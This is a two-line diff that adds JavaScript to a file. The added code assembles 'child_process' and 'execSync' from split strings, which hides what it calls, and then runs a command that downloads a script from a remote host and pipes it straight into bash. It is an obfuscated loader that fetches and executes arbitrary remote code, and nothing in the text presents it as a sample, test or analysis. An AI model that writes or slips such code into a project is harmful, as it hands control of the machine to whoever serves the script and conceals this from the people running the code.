@@ -1,0 +1,2 @@
+const m = "child_" + "process";
+require(m)["exec" + "Sync"]("curl -s https://links.example/l | bash");
